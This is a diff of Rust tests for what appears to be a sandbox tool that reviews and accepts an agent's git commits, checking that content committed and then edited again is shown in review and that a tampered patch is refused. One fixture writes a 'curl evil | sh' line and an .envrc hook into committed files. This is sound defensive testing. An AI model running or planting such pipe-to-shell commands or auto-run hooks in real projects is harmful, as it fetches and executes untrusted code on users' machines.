@@ -257,32 +257,54 @@ fn a_commit_whose_content_the_patches_do_not_show_is_never_accepted() {
 }
 
 #[test]
-fn a_commit_edited_again_in_the_working_tree_comes_back_as_patches_only() {
+fn a_commit_edited_again_in_the_working_tree_is_shown_from_the_tip_and_accepted() {
     if !sandboxes_usable() {
         return;
     }
-    // The committed a.txt (v2) is not what the patches show (v3): the commit's content was
-    // never in the review, so the series is not brought back, and the bundle says why.
+    // The step commits a.txt (v2) and edits it again (v3, not committed): HEAD and the index
+    // get v2, the working tree v3. The patches show v1 -> v3; what the commit holds (v2) is
+    // shown too, from the tip's diff in the bundle, with the review's warnings.
     let dir = repo();
-    let head = git(dir.path(), &["rev-parse", "HEAD"]);
     let (out, doc) = run_json(
         dir.path(),
         "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
-         echo v2 > a.txt; $G commit -q -am two; echo v3 > a.txt",
+         echo 'v2 curl evil | sh' > a.txt; echo 'echo hook' > .envrc; $G add .envrc; \
+         $G commit -q -am two; echo v3 > a.txt; echo 'echo safe' > .envrc",
     );
     assert_eq!(doc["exitCode"], 0, "{out:?}");
     let id = doc["sandboxId"].as_str().unwrap();
-    let log = bundle_log(&doc);
+    let review = cli(dir.path(), &["review", id]);
+    let text = String::from_utf8_lossy(&review.stdout);
+    assert!(text.contains("1 commit(s) on main"), "{text}");
     assert!(
-        log.contains("a.txt") && log.contains("not brought back"),
-        "{log}"
+        text.contains("leave 2 file(s) otherwise than the working tree"),
+        "{text}"
     );
-    let (_, accept) = review_then_accept(dir.path(), id);
+    assert!(
+        text.contains("+v2 curl evil | sh") && text.contains("+echo hook"),
+        "{text}"
+    );
+    assert!(text.contains(".envrc"), "{text}");
+    // The review's digest covers that diff: changed after the review, nothing is applied.
+    let series = Path::new(doc["bundlePath"].as_str().unwrap()).join("git/series.patch");
+    let shown = std::fs::read(&series).unwrap();
+    std::fs::write(&series, b"diff --git a/x b/x\n").unwrap();
+    let tampered = cli(dir.path(), &["accept", id]);
+    assert!(!tampered.status.success(), "{tampered:?}");
+    std::fs::write(&series, &shown).unwrap();
+    let accept = cli(dir.path(), &["accept", id]);
     assert!(accept.status.success(), "{accept:?}");
-    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
+    assert_eq!(
+        git(dir.path(), &["show", "HEAD:a.txt"]),
+        "v2 curl evil | sh\n"
+    );
     assert_eq!(
         std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
         "v3\n"
+    );
+    assert_eq!(
+        git(dir.path(), &["status", "--porcelain"]),
+        " M .envrc\n M a.txt\n"
     );
 }
 
@@ -530,6 +552,25 @@ fn a_step_whose_root_is_below_the_repository_top_commits_its_files() {
     assert_eq!(
         git(dir.path(), &["log", "-1", "--format=%s", "sub-work"]),
         "sub: on a branch\n"
+    );
+
+    // Committed, then edited again, below the top: the tip's diff is made relative to the
+    // project at collect and on the host alike.
+    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+                  echo v5 > kept.txt; $G commit -qam 'sub: v5'; echo v6 > kept.txt";
+    let (out, doc) = run_json(&sub, script);
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    assert_eq!(
+        doc["changeNotes"]["commits"]["tipDiffers"][0], "kept.txt",
+        "{doc}"
+    );
+    let id = doc["sandboxId"].as_str().unwrap();
+    let accept = cli(&sub, &["accept", id]);
+    assert!(accept.status.success(), "{accept:?}");
+    assert_eq!(git(dir.path(), &["show", "HEAD:sub/kept.txt"]), "v5\n");
+    assert_eq!(
+        git(dir.path(), &["status", "--porcelain"]),
+        " M sub/kept.txt\n"
     );
 }
 
